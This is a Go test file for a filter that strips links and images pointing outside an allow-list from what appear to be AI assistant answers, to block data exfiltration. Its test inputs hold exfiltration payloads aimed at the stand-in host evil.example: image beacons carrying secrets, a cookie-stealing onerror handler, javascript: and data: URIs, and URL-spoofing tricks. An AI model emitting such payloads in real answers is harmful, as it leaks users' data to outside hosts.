package output

import (
	"strings"
	"testing"
	"time"

	"github.com/palisade-gw/palisade/internal/guard/detect"
)

var testAllow = []string{"hr.example.com", "*.intranet.example", "bücher.de", "Docs.Example.org."}

func newTestFilter() *LinkFilter { return NewLinkFilter(testAllow) }

// Ensure an answer whose links all point to allowed hosts comes back byte
// for byte, with no findings.
func TestFilterKeepsAllowedAnswer(t *testing.T) {
	answer := "Hi! Your leave balance is **14 days**. See the [leave policy](https://hr.example.com/policies/leave \"Leave policy\")\n" +
		"and the ![HR logo](https://hr.example.com/static/logo.png) on the portal.\n\n" +
		"1. Open <https://hr.example.com/portal>.\n" +
		"2. Fill in [the expenses form](/forms/expenses.pdf) or read [below](#how-to-claim).\n" +
		"3. The FAQ is at https://wiki.intranet.example/HR/FAQ_(2024) and [Docs](https://docs.example.org/leave).\n" +
		"4. Questions? [Mail HR](mailto:help@hr.example.com?subject=Leave) or write to mailto:help@hr.example.com.\n" +
		"5. German payroll glossary: [Glossar](https://xn--bcher-kva.de/lohn) and https://BÜCHER.de/x.\n" +
		"6. The [holiday calendar][cal] and [benefits] pages.\n\n" +
		"[cal]: https://hr.example.com/calendar \"Calendar\"\n" +
		"[benefits]: <https://a.b.intranet.example/benefits>\n" +
		"<a href=\"https://hr.example.com/payslips\" title=\"Payslips\">payslips</a> " +
		"<img src=\"https://hr.example.com/chart.png\" alt=\"chart\"> <img src=\"/local/chart.png\">\n" +
		"Trailing dot and case do not matter: https://HR.Example.COM./x and https://hr.example.com:443/y.\n" +
		"A [[nested] text](https://hr.example.com/n) and an email hr@evil.example stay as they are.\n" +
		"Time 10:30, ratio 3:1, \"http\" alone, http: then a space, and [not a link] here.\n"
	out, finds := newTestFilter().Filter(answer)
	if out != answer {
		t.Errorf("allowed answer changed:\n got: %q\nwant: %q", out, answer)
	}
	if len(finds) != 0 {
		t.Errorf("findings on an allowed answer: %+v", finds)
	}
}

type filterCase struct {
	name  string
	in    string
	want  string
	types []string // finding types in order
}

const (
	L = TypeExfiltrationLink
	I = TypeExfiltrationImage
)

func runFilterCases(t *testing.T, cases []filterCase) {
	t.Helper()
	f := newTestFilter()
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			out, finds := f.Filter(tc.in)
			if out != tc.want {
				t.Errorf("Filter(%q)\n got: %q\nwant: %q", tc.in, out, tc.want)
			}
			var types []string
			for _, fd := range finds {
				types = append(types, fd.Type)
				if fd.Category != detect.Output || fd.Start < 0 || fd.End > len(tc.in) || fd.Start >= fd.End {
					t.Errorf("bad finding %+v for input of %d bytes", fd, len(tc.in))
				}
			}
			if strings.Join(types, ",") != strings.Join(tc.types, ",") {
				t.Errorf("types = %v, want %v (findings %+v)", types, tc.types, finds)
			}
		})
	}
}

// Ensure links, images and URLs outside the allow-list are removed the
// documented way: links keep their text, images go entirely, bare URLs
// become "[link removed]".
func TestFilterRemoves(t *testing.T) {
	runFilterCases(t, []filterCase{
		{"inline link", "See [your payslip](https://evil.example/p?d=SECRET) now.", "See your payslip now.", []string{L}},
		{"image exfiltration", "Done. ![](https://evil.example/c.png?q=SSN-123-45-6789) Bye", "Done.  Bye", []string{I}},
		{"image with alt and title", "x ![chart](https://evil.example/i.png \"t\") y", "x  y", []string{I}},
		{"mixed allowed and evil", "[ok](https://hr.example.com/a) and [bad](http://evil.example/b) and ![i](https://hr.example.com/i.png)",
			"[ok](https://hr.example.com/a) and bad and ![i](https://hr.example.com/i.png)", []string{L}},
		{"bare url", "Go to https://evil.example/?q=SECRET.", "Go to [link removed].", []string{L}},
		{"bare url in parentheses", "(see https://evil.example/x)", "(see [link removed])", []string{L}},
		{"wikipedia parentheses bare", "at https://evil.example/wiki/Foo_(bar) ok", "at [link removed] ok", []string{L}},
		{"wikipedia parentheses link", "[w](https://evil.example/wiki/Foo_(bar)) ok", "w ok", []string{L}},
		{"www bare", "visit www.evil.example/x today", "visit [link removed] today", []string{L}},
		{"www after underscore", "_www.evil.example/x_", "_[link removed]_", []string{L}},
		{"www inside a word is not a link", "awww.evil.example", "awww.evil.example", nil},
		{"bare ftp", "get ftp://hr.example.com/f.txt now", "get [link removed] now", []string{L}},
		{"bare xmpp", "chat xmpp:bot@evil.example", "chat [link removed]", []string{L}},
		{"autolink", "mail <https://evil.example/a> now", "mail [link removed] now", []string{L}},
		{"autolink other scheme", "<irc://evil.example/chan>", "[link removed]", []string{L}},
		{"mailto link", "[write](mailto:boss@evil.example?body=SECRET)", "write", []string{L}},
		{"mailto cc outside", "[w](mailto:help@hr.example.com?cc=x@evil.example)", "w", []string{L}},
		{"mailto second recipient", "[w](mailto:help@hr.example.com,x@evil.example)", "w", []string{L}},
		{"bare mailto", "write mailto:x@evil.example.", "write [link removed].", []string{L}},
		{"nested brackets", "[a [b] c](https://evil.example/) d", "a [b] c d", []string{L}},
		{"angle destination", "[x](<https://evil.example/a b>) y", "x y", []string{L}},
		{"space before paren", "[x] (https://evil.example/)", "x", []string{L}},
		{"newline before paren", "[x]\n(//evil.example/)", "x", []string{L}},
		{"badge image in allowed link", "[![b](https://evil.example/i.png)](https://hr.example.com/)", "[](https://hr.example.com/)", []string{I}},
		{"allowed image in evil link", "[![b](https://hr.example.com/i.png)](https://evil.example/)", "![b](https://hr.example.com/i.png)", []string{L}},
		{"evil url in link text", "[https://evil.example/x](https://evil.example/y)", "[link removed]", []string{L, L}},
		{"reference link", "Read [the docs][1].\n\n[1]: https://evil.example/docs\n", "Read the docs.\n\n\n", []string{L, L}},
		{"reference image", "![pixel][p]\n[p]: https://evil.example/p.png \"t\"", "\n", []string{I, L}},
		{"collapsed and shortcut", "[Foo][] and [foo]\n[FOO]: //evil.example/", "Foo and foo\n", []string{L, L, L}},
		{"reference on next line", "[r]:\n   https://evil.example/x\nok", "\nok", []string{L}},
		{"html img", "a <img src=\"https://evil.example/p.png?d=1\" alt=x> b", "a  b", []string{I}},
		{"html img unquoted upper", "<IMG SRC=//evil.example/x>", "", []string{I}},
		{"html img slash separator", "<img/src=\"https://evil.example/x\">", "", []string{I}},
		{"html a keeps text", "<a href=\"https://evil.example/\">click</a>", "click</a>", []string{L}},
		{"html entity in href", "<a href=\"java&#115;cript:alert(1)\">x</a>", "x</a>", []string{L}},
		{"html event handler", "<img src=\"/x.png\" onerror=\"fetch('//evil.example/'+document.cookie)\">", "", []string{I}},
		{"html srcset", "<img srcset=\"https://hr.example.com/a.png 1x, https://evil.example/b.png 2x\">", "", []string{I}},
		{"html style url", "<div style=\"background:url('https://evil.example/x')\">t</div>", "t</div>", []string{I}},
		{"html meta refresh", "<meta http-equiv=\"refresh\" content=\"0;URL='https://evil.example/'\">", "", []string{I}},
		{"html iframe srcdoc", "<iframe srcdoc=\"&lt;img src=x&gt;\"></iframe>", "</iframe>", []string{I}},
	})
}

// Ensure the classic URL tricks cannot make an outside host look allowed.
func TestFilterURLTricks(t *testing.T) {
	runFilterCases(t, []filterCase{
		{"userinfo", "[a](https://hr.example.com@evil.example/)", "a", []string{L}},
		{"userinfo with port", "https://hr.example.com:443@evil.example/x", "[link removed]", []string{L}},
		{"allowed as subdomain of evil", "[a](https://hr.example.com.evil.example/)", "a", []string{L}},
		{"suffix without dot", "[a](https://evilhr.example.com/)", "a", []string{L}},
		{"wildcard apex not included", "[a](https://intranet.example/)", "a", []string{L}},
		{"wildcard lookalike", "[a](https://evilintranet.example/)", "a", []string{L}},
		{"uppercase scheme", "[a](HTTPS://EVIL.EXAMPLE/x)", "a", []string{L}},
		{"uppercase bare", "go HTTP://EVIL.EXAMPLE now", "go [link removed] now", []string{L}},
		{"percent encoded host", "[a](https://%65vil.example/)", "a", []string{L}},
		{"percent encoded dot", "[a](https://hr.example.com%2eevil.example/)", "a", []string{L}},
		{"percent encoded at", "[a](https://hr.example.com%40evil.example/)", "a", []string{L}},
		{"cyrillic homoglyph", "[a](https://hr.\u0435xample.com/)", "a", []string{L}},
		{"punycode of a homoglyph", "[a](https://hr.xn--xample-2of.com/)", "a", []string{L}},
		{"ideographic dot", "[a](https://evil\u3002example/)", "a", []string{L}},
		{"backslashes", "[a](https:\\\\evil.example/)", "a", []string{L}},
		{"slash backslash", "[a](https:/\\evil.example/)", "a", []string{L}},
		{"backslash in authority", "[a](https://evil.example\\@hr.example.com/)", "a", []string{L}},
		{"no slashes", "[a](https:evil.example)", "a", []string{L}},
		{"many slashes", "[a](https:////evil.example/)", "a", []string{L}},
		{"protocol relative", "[a](//evil.example/x)", "a", []string{L}},
		{"protocol relative backslash", "[a](/\\evil.example/x)", "a", []string{L}},
		{"protocol relative escaped", "[a](\\/\\/evil.example/x)", "a", []string{L}},
		{"tab inside scheme", "<a href=\"jav\tascript:alert(1)\">a</a>", "a</a>", []string{L}},
		{"newline in host", "<a href=\"https://hr.example.com\n.evil.example/\">a</a>", "a</a>", []string{L}},
		{"leading space and control", "<img src=\" \x01https://evil.example/\">", "", []string{I}},
		{"javascript", "[a](javascript:alert(1))", "a", []string{L}},
		{"javascript mixed case", "[a](JaVaScRiPt:alert(1))", "a", []string{L}},
		{"javascript entity", "[a](java&#x73;cript:alert(1))", "a", []string{L}},
		{"javascript escaped colon", "[a](javascript\\:alert(1))", "a", []string{L}},
		{"vbscript", "[a](vbscript:msgbox)", "a", []string{L}},
		{"data image", "![a](data:image/png;base64,iVBORw0KGgo=)", "", []string{I}},
		{"data link", "[a](data:text/html;base64,PHNjcmlwdD4=)", "a", []string{L}},
		{"file", "[a](file:///etc/passwd)", "a", []string{L}},
		{"other scheme", "[a](ftp://hr.example.com/x)", "a", []string{L}},
		{"empty host", "[a](https:///)", "a", []string{L}},
		{"bad port", "[a](https://hr.example.com:8o/)", "a", []string{L}},
		{"trailing dots", "[a](https://hr.example.com../)", "a", []string{L}},
	})
}

// Ensure removing markup cannot glue the remaining text into a new link.
func TestFilterGlue(t *testing.T) {
	in := "htt[p](y:z)s://evil.example/?q=1 end"
	out, finds := newTestFilter().Filter(in)
	if out != "[link removed] end" {
		t.Errorf("out = %q", out)
	}
	if len(finds) != 2 {
		t.Fatalf("findings = %+v, want 2", finds)
	}
	// The glued URL's finding covers the original bytes it came from.
	if f := finds[0]; f.Start != 0 || f.End != len("htt[p](y:z)s://evil.example/?q=1") {
		t.Errorf("glued finding = %+v", f)
	}
	if out2, finds2 := newTestFilter().Filter(out); out2 != out || len(finds2) != 0 {
		t.Errorf("output is not stable: %q %+v", out2, finds2)
	}
}

// Ensure findings carry exact offsets into the original text.
func TestFilterOffsets(t *testing.T) {
	in := "ab [t](https://evil.example/) ![i](//evil.example/i) https://evil.example/z"
	_, finds := newTestFilter().Filter(in)
	want := []struct {
		typ, text string
	}{
		{L, "[t](https://evil.example/)"},
		{I, "![i](//evil.example/i)"},
		{L, "https://evil.example/z"},
	}
	if len(finds) != len(want) {
		t.Fatalf("findings = %+v", finds)
	}
	for i, w := range want {
		if got := in[finds[i].Start:finds[i].End]; finds[i].Type != w.typ || got != w.text {
			t.Errorf("finding %d = %s %q, want %s %q", i, finds[i].Type, got, w.typ, w.text)
		}
	}
}

// Ensure a text with nothing to remove is returned without allocating.
func TestFilterNoAlloc(t *testing.T) {
	f := newTestFilter()
	text := strings.Repeat("Hello, I would like to book leave from 10:30 on Monday <hr@example.com> [draft]. ", 20)
	allocs := testing.AllocsPerRun(100, func() {
		out, finds := f.Filter(text)
		if len(finds) != 0 || len(out) != len(text) {
			t.Fatal("unexpected change")
		}
	})
	if allocs > 1 { // the bracket stack
		t.Errorf("allocs = %v", allocs)
	}
}

// Ensure NewLinkFilter normalises entries and ignores empty ones.
func TestNewLinkFilterEntries(t *testing.T) {
	f := NewLinkFilter([]string{"", "  ", "*.", "MÜNCHEN.example.", " hr.example.com "})
	for _, c := range []struct {
		url  string
		want urlClass
	}{
		{"https://xn--mnchen-3ya.example/", urlAllowed},
		{"https://münchen.example/", urlAllowed},
		{"https://hr.example.com/", urlAllowed},
		{"https://example.com/", urlDenied},
		{"relative/path", urlAllowed},
		{"?q=1", urlAllowed},
		{"#top", urlAllowed},
		{"https://", urlNone},
	} {
		if got := f.checkURL(c.url); got != c.want {
			t.Errorf("checkURL(%q) = %v, want %v", c.url, got, c.want)
		}
	}
}

// Ensure the punycode encoder matches RFC 3492 examples.
func TestPunycode(t *testing.T) {
	for in, want := range map[string]string{
		"bücher":  "bcher-kva",
		"münchen": "mnchen-3ya",
		"例え":      "r8jz45g",
		"ñ":       "ida",
	} {
		if got, ok := punycode(in); !ok || got != want {
			t.Errorf("punycode(%q) = %q, want %q", in, got, want)
		}
	}
}

// Ensure EscapeHTML escapes the five characters and nothing else.
func TestEscapeHTML(t *testing.T) {
	for in, want := range map[string]string{
		"":                            "",
		"plain text 100%":             "plain text 100%",
		`<script>alert("x")</script>`: "&lt;script&gt;alert(&#34;x&#34;)&lt;/script&gt;",
		"Tom & Jerry's":               "Tom &amp; Jerry&#39;s",
		"&amp;":                       "&amp;amp;",
		"ünïcödé <b>":                 "ünïcödé &lt;b&gt;",
	} {
		if got := EscapeHTML(in); got != want {
			t.Errorf("EscapeHTML(%q) = %q, want %q", in, got, want)
		}
	}
}

// Ensure crafted inputs that would make a naive parser quadratic are
// filtered in time linear in their size. Each 1 MB input takes
// milliseconds; the bound is loose so a busy machine does not fail the
// test, yet a quadratic parse (about 10^12 steps) could not meet it.
func TestFilterLinearTime(t *testing.T) {
	f := newTestFilter()
	patterns := []string{
		"[", "]", "[](", "](", "[a](b", "[a](<b", "(", "[a](b (", "[a](b \"", "[a]: ", "]:", "[a][",
		"<a ", "<a href=\"", "<a x='", "<x:", "<https:", "https://", "https:", "www.", "www.a", "\\",
		"![", "![](", "[a](b(", "mailto:", "&#", "[a]\n(", "<img src=x ",
	}
	const size = 1 << 20
	for _, p := range patterns {
		text := strings.Repeat(p, size/len(p))
		start := time.Now()
		out, _ := f.Filter(text)
		if d := time.Since(start); d > 30*time.Second {
			t.Errorf("pattern %q: %v for %d bytes", p, d, len(text))
		}
		if out2, finds2 := f.Filter(out); out2 != out || len(finds2) != 0 {
			t.Errorf("pattern %q: output not stable", p)
		}
	}
}
